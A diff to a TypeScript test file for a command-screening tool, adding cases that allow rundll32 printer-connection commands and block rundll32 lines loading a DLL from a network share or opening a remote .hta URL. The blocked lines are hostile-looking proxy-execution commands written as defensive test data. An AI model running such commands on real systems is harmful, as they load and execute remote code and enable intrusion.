@@ -4,7 +4,7 @@
  */
 import { describe, expect, it } from 'vitest';
 import { proxyExecutionRules } from './proxy-execution';
-import { run, ruleIds, spansValid, verdict } from './family-test-support';
+import { evaluateLine, run, ruleIds, spansValid, verdict } from './family-test-support';
 import type { Shell } from '../types';
 
 const blocked: Array<[string, Shell, string]> = [
@@ -144,5 +144,25 @@ describe('proxy execution: long-tail LOLBins and network shares', () => {
     expect(remote?.remedy).toMatch(/Copy the file/);
     const [internal] = run(proxyExecutionRules, '\\\\fileserver\\s\\p.exe', 'cmd');
     expect(internal?.message).toMatch(/common in administration/);
+  });
+});
+
+describe('rundll32 and network paths', () => {
+  // A printer connection names a print server's queue: an ordinary MSP task, not remote code.
+  it.each([
+    'rundll32 printui.dll,PrintUIEntry /in /n \\\\printserver\\queue',
+    'rundll32.exe printui.dll,PrintUIEntry /ga /n "\\\\print01\\Floor 2"',
+    'rundll32 printui.dll,PrintUIEntry /dn /n \\\\printserver\\old-queue',
+  ])('allows %s', (text) => {
+    expect(evaluateLine(text, 'cmd').decision).toBe('allow');
+  });
+
+  it.each([
+    'rundll32 \\\\203.0.113.5\\s\\x.dll,Entry',
+    'rundll32.exe "\\\\fileserver\\share\\x.dll",DllMain',
+    'rundll32 printui.dll,PrintUIEntry /in /n \\\\printserver\\q http://x.example/p',
+    'rundll32 url.dll,OpenURL http://x.example/a.hta',
+  ])('blocks %s (a DLL loaded from a share, or a URL anywhere)', (text) => {
+    expect(evaluateLine(text, 'cmd').decision).toBe('block');
   });
 });
